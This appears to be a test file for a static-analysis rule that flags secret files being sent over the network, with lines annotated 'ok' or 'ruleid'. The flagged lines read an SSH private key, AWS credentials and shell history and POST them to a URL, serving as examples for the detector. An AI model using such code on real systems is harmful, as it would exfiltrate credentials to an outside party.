import os
from pathlib import Path

import paramiko
import requests


def collect(url):
    # ok: secret-file-sent
    paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))
    # ok: secret-file-sent
    requests.post(url, data=open("report.txt").read())
    # ok: secret-file-sent
    key = Path("~/.ssh/id_rsa").expanduser().read_text()
    # ruleid: secret-file-sent
    requests.post(url, data={"k": key})
    # ruleid: secret-file-sent
    requests.post(url, files={"f": open(os.path.expanduser("~/.aws/credentials"), "rb")})
    history = (Path.home() / ".bash_history").read_text()
    # ruleid: secret-file-sent
    requests.post(url, json={"history": history})
